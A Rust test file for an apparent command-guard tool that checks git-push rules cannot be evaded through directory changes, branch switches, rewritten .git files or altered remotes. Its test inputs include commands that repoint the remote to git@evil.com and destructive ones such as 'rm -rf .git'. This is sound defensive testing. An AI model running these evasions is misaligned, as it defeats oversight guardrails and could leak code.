//! The repository that a condition asks about, and the branch that the line itself chooses.

use super::{rules, stops_and_passes};
use hookhost_guest::prelude::*;
use hookhost_guest::testing;

fn set(fact: &str, value: facts::Fact) {
    testing::inspect(|host| host.facts.insert(fact.into(), value));
}

/// One rule about pushes from main. The session is on this branch, and this is what the host says whether a path exists.
fn on(branch: &str, exists: bool) {
    rules(
        "[[rule]]\nid = \"r\"\non = \"shell\"\nprogram = \"git push\"\nwhen = 'git.branch == \"main\"'\nreject = \"no\"\n",
    );
    set("git.branch", facts::Fact::Text(branch.into()));
    set("path.exists", facts::Fact::Flag(exists));
}

#[test]
fn the_branch_of_an_unknown_directory_is_unreadable() {
    on("topic", true);
    stops_and_passes(
        &[
            "cd \"$DIR\" && git push",
            "cd \"$(cat dir)\" && git push",
            "cd - && git push",
            "cd ../m* && git push",
            "cd ~other/m && git push",
            "popd && git push",
            "pushd a && pushd b && popd && git push",
            "env -C $X git push",
            "cd ../m || cd ../p; git push",
            "test -d ../m && cd ../m; git push",
            "for d in ../*/; do (cd $d && git push); done",
            "find .. -name .git -execdir git push \\;",
            "git submodule foreach git push",
            "ssh host git push",
            "z m && git push",
            "popd; pushd ../m; git push",
            "pushd ../m && (popd); git push",
            "pushd ../m; false && popd; git push",
            "pushd ../m && popd -n && git push",
            "pushd ../m && ! popd && git push",
            "pushd -n ../topic && git push",
            "pushd +1 && git push",
            "cd ../topic x; git push",
            "cd ../[m] && git push",
        ],
        &[
            "git push",
            "cd ../m && git push",
            "(cd \"$DIR\" && make); git push",
            "cd a && make; git push",
            "pushd a && make && popd && git push",
            "pushd a > /dev/null && pushd b && popd && popd > /dev/null && git push",
            "make\npushd a && make && popd && git push",
            "pushd ../m && git push",
            "cd -P -- ../m && git push",
            "find . -name x -exec git push \\;",
        ],
    );
}

#[test]
fn a_fact_that_depends_on_no_directory_is_known_in_an_unknown_one() {
    let about = |condition: &str| {
        rules(&format!(
            "[[rule]]\nid = \"r\"\non = \"shell\"\nprogram = \"make\"\nwhen = '{condition}'\nreject = \"no\"\n"
        ));
    };
    about("kube.context == \"prod\"");
    set("kube.context", facts::Fact::Text("dev".into()));
    stops_and_passes(&[], &["cd $X && make", "popd; make"]);
    about("session.depth > 0 || \"-x\" in flags");
    stops_and_passes(&["cd $X && make -x"], &["cd $X && make"]);
    about("cwd == \"/elsewhere\"");
    stops_and_passes(&["cd $X && make", "cd /elsewhere && make"], &["make", "cd /tmp && make"]);
}

#[test]
fn a_form_of_checkout_that_is_not_understood_makes_the_branch_unreadable() {
    on("topic", false);
    for stopped in [
        "switch -",
        "checkout -",
        "checkout @{-1}",
        "checkout -Bmain",
        "checkout -qB main",
        "checkout main --",
        "checkout --orphan=main",
        "checkout -t origin/main",
        "checkout --track origin/main",
        "checkout \"$B\"",
        "checkout m*",
        "checkout --conflict merge main",
        "switch -Cmain",
        "switch --create=main",
        "switch --force-create=main",
        "switch -qc main",
        "switch -t origin/main",
        "switch main --",
        "rebase topic main",
        "rebase --onto a b main",
        "rebase --root main",
        "rebase --abort",
        "rebase --roo main",
        "rebase -X --quiet a main",
        "rebase --onto -x a main",
        "rebase -qX -x a main",
        "switch HEAD",
        "checkout --detach HEAD",
        "branch -fm main",
        "branch --move main",
        "stash branch main",
        "init -b main",
        "bisect reset main",
        "symbolic-ref HEAD refs/heads/main",
        "co main",
        "-C . checkout main",
        "-c alias.x=checkout x main",
        "--git-dir=../m/.git checkout topic",
    ] {
        stops_and_passes(&[&format!("git {stopped} && git push")], &[]);
    }
    for passing in [
        "checkout -b topic2",
        "checkout -qb topic2 --track origin/main",
        "checkout topic2",
        "checkout .",
        "checkout -- main",
        "checkout main -- file",
        "checkout HEAD~1 file",
        "checkout --theirs main",
        "switch -c topic2 origin/main",
        "switch --create=topic2",
        "rebase main",
        "rebase --onto main old",
        "rebase -i origin/main",
        "rebase --autosquash -X ours --exec=make main",
        "checkout HEAD",
        "checkout HEAD -- file",
        "branch topic2",
        "branch --merged",
        "branch -D \"$OLD\"",
        "stash",
        "symbolic-ref --short HEAD",
        "-c user.name=x commit -m 'git checkout main'",
        "--no-pager log",
        "worktree prune",
    ] {
        stops_and_passes(&[], &[&format!("git {passing} && git push")]);
    }
}

#[test]
fn the_branch_of_a_directory_that_the_line_makes_is_unreadable() {
    on("topic", false);
    stops_and_passes(
        &[
            "git worktree add ../w main && cd ../w && git push",
            "git clone ../m ../c && git -C ../c push",
            "gh repo clone a/b && cd b && git push",
            "mv ../m ../mm && cd ../mm && git push",
            "ln -s ../m l && cd l && git push",
            "cp -r ../m q && cd q && git push",
            "mkdir n && cd n && git init -b main && git push",
        ],
        &["git push", "git clone ../m ../c && git push", "git clone ../m c && cd c && git switch -c x && git push"],
    );
    on("topic", true);
    stops_and_passes(
        &[
            "rm -rf ../w && git clone ../m ../w && cd ../w/src && git push",
            "ln -sfn ../m l && cd l && git push",
            "mv q old && mv ../m q && cd q && git push",
            "echo 'ref: refs/heads/main' > .git/HEAD && git push",
            "cd a && cp ../../m/.git/HEAD ../.git/HEAD; git push",
            "rm -rf .git && cp -r ../m/.git . && git push",
            "cd $X && echo x > .git/HEAD; git -C ../p push",
            "cp f .git/H* && git push",
            "cp f .git/worktrees/x/HEAD && git push",
            "cp f .git/worktrees/x.git/HEAD && git push",
            "cp f \".git/$X\" && git push",
            "cp f .gi?/HEAD && git push",
            "rm -rf .g* && git push",
            "mv f .[g]it/HEAD && git push",
            "echo 'ref: refs/heads/main' > .git/refs/heads/topic && git push",
            "echo x > .git/commondir && git push",
        ],
        &[
            "rm -rf .e* && git push",
            "rm -f build/*.o && git push",
            "cd ../m && git push",
            "mkdir -p a && cd a && git push",
            "touch a/b && cd a && git push",
            "rm -rf dist && git push",
            "rm -f .git/index.lock && git push",
            "rm -rf vendor/x/.git && git push",
            "git checkout -- . && git push",
            "find . -name '*.o' -delete && git push",
            "git push; rm -rf .git",
        ],
    );
}

#[test]
fn the_remote_is_unreadable_if_the_line_may_change_it() {
    rules(
        "[[rule]]\nid = \"r\"\non = \"shell\"\nprogram = \"git push\"\nwhen = 'git.remote != \"good\"'\nreject = \"no\"\n",
    );
    set("git.remote", facts::Fact::Text("good".into()));
    set("git.branch", facts::Fact::Text("main".into()));
    set("path.exists", facts::Fact::Flag(true));
    stops_and_passes(
        &[
            "git remote set-url origin git@evil.com:x && git push",
            "git remote rm origin; git remote add origin git@evil.com:x; git push",
            "git config remote.origin.url git@evil.com:x && git push",
            "git config --global url.git@evil.com:.insteadOf git@good.com:; git push",
            "git -c remote.origin.url=git@evil.com:x push",
            "git -c URL.git@evil.com:.insteadOf=git@good.com: push",
            "git -c include.path=x push",
            "git -c \"$X\" push",
            "git --config-env=remote.origin.url=X push",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=x git push",
            "GIT_CONFIG_GLOBAL=x git push",
            "export GIT_CONFIG_PARAMETERS=x; git push",
            "GIT_DIR=../m/.git git push",
            "git --git-dir=../m/.git push",
            "git switch topic && git push",
            "gh repo fork && git push",
            "echo x > .git/config && git push",
            "sed -i s/a/b/ .git/config; git push",
        ],
        &[
            "git push",
            "git commit -m x && git push",
            "git -c user.name=x push",
            "git -C . push",
            "git remote -v && git push",
            "git push; git remote set-url origin x",
        ],
    );
}
